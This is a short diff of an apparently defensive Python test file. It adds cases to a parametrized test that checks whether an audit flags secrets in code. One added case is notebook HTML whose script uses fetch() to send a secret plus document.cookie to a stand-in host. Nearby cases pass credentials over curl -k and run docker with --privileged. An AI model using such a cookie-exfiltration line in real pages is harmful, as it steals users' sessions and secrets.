@@ -153,6 +153,8 @@ def test_no_secret_of_the_code_is_in_what_is_said(audit):
         f"import requests\nrequests.get('https://bob:{secret}@x.example', verify=False)",
         f"password = '{secret}'\nprint(f'pw {{password}}')",
         f"!curl -k -u bob:{secret} https://x.example",
+        f"!docker run --privileged -e KEY={secret} x",
+        f"%%html\n<script>fetch('https://x.example/?t={secret}' + document.cookie)</script>",
         f"!mysql -p{secret} -e 'x' && curl -k https://x.example",
         f"import os\nos.system('curl -k -u bob:{secret} https://x.example')",
     ):
